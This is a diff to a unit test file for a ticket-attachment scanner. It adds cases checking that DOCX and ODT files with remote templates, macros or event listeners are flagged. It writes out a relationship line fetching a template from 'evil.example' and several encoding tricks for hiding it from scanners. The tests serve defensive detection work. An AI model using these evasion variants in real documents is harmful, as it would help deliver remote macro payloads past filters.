@@ -15,6 +15,16 @@ from tests.tickets.files import GOOD, PDF, TEXT, docx, m4a, odt, pdf, picture
 pytestmark = pytest.mark.unit
 
 FETCHED = '<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm"/>'
+#: The same, as it could be hidden from who looks for it.
+TEMPLATES = (
+    FETCHED.replace('"', "'"),
+    FETCHED.replace("https:", "&#104;ttps:"),
+    FETCHED.replace("attached", "&#97;ttached"),
+    FETCHED.replace("https:", "\\\\"),
+    FETCHED.replace("https:", "file:"),
+    FETCHED.encode("utf-16"),
+)
+MACROS = '<Types><Override ContentType="x.macro&#69;nabled.main+xml"/></Types>'
 #: How what is packed in a PDF could be hidden from who looks for it.
 HIDES = (
     *(b" " * 600 + b"/Filter", b"/A % endobj\n/Filter", b"/A (1 0 obj <<)/Filter"),
@@ -103,7 +113,12 @@ def test_each_kind_that_is_taken(kept: Attachments, name: str) -> None:
         ("pismo.docx", docx(**{"word__inside.dat": odt()}), Why.ACTIVE),
         ("pismo.docx", docx(word__x__rels__a="").replace(b"word/x", b"../..x"), Why.OTHER),
         ("pismo.docx", docx(word___rels__settings="", **{"a.rels": FETCHED}), Why.ACTIVE),
-        ("pismo.docx", docx(**{"[Content_Types].xml": "macroEnabled.main+xml"}), Why.ACTIVE),
+        *(("pismo.docx", docx(**{"a.rels": one}), Why.ACTIVE) for one in TEMPLATES),
+        ("pismo.docx", docx(**{"[Content_Types].xml": MACROS}), Why.ACTIVE),
+        ("pismo.docx", docx(**{"[Content_Types].xml": MACROS.encode("utf-16")}), Why.ACTIVE),
+        ("pismo.docx", docx(**{"[Content_Types].xml": "<Types"}), Why.DAMAGED),
+        ("pismo.odt", odt(**{"content.xml": "<a xmlns:x='s'><x:event-listener/></a>"}), Why.ACTIVE),
+        ("pismo.odt", odt(**{"content.xml": "<event-listener/>".encode("utf-16")}), Why.DAMAGED),
         ("pismo.docx", docx(word__zeros=bytes(20_000_000)), Why.BOMB),
         ("pismo.odt", odt(Basic__Standard__m="Sub Main"), Why.ACTIVE),
         ("pismo.odt", odt(**{"META-INF__manifest.xml": "<encryption-data/>"}), Why.ENCRYPTED),
